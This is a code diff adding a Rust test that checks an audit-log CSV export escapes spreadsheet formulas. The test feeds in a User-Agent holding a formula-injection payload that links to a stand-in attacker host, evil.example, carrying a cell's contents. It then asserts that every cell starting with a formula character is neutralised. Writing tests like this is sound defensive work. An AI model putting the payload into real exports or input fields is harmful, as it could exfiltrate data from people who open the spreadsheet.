@@ -621,3 +621,44 @@ async fn the_command_line_prints_one_time_password_links() -> TestResult {
     }
     Ok(())
 }
+
+#[tokio::test]
+async fn the_audit_log_as_csv_never_holds_a_spreadsheet_formula() -> TestResult {
+    use app::backend::prelude::*;
+    const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A2,\"details\")";
+    const NAME: &str = "+1@contoso.example";
+    for database in TestDatabase::all().await {
+        let backend = support::backend(&database).await;
+        support::set_up_organization(&backend).await;
+        support::add_user(&backend, NAME).await;
+        // An outsider's failed sign-in, with a User-Agent of their choosing.
+        let outsider = app::backend::RequestContext {
+            user_agent: Some(FORMULA.to_owned()),
+            ..support::context("198.51.100.66", None)
+        };
+        let refused = backend
+            .sign_in(&outsider, NAME, "not the password at all")
+            .await;
+        assert!(refused.is_err());
+
+        let audit = latchkey(&database.url, &["admin", "audit", "--csv"], "")?;
+        assert_eq!(audit.code, 0, "{}", audit.stderr);
+        let mut reader = csv::Reader::from_reader(audit.stdout.as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
+        let failed = rows
+            .iter()
+            .find(|row| &row[3] == "sign_in.failed")
+            .ok_or("no failed sign-in in the log")?;
+        assert_eq!(&failed[2], format!("'{NAME}"), "{}", database.name);
+        assert_eq!(&failed[6], format!("'{FORMULA}"), "{}", database.name);
+        for row in &rows {
+            assert!(
+                !row.iter()
+                    .any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+                "{}: a formula in {row:?}",
+                database.name
+            );
+        }
+    }
+    Ok(())
+}
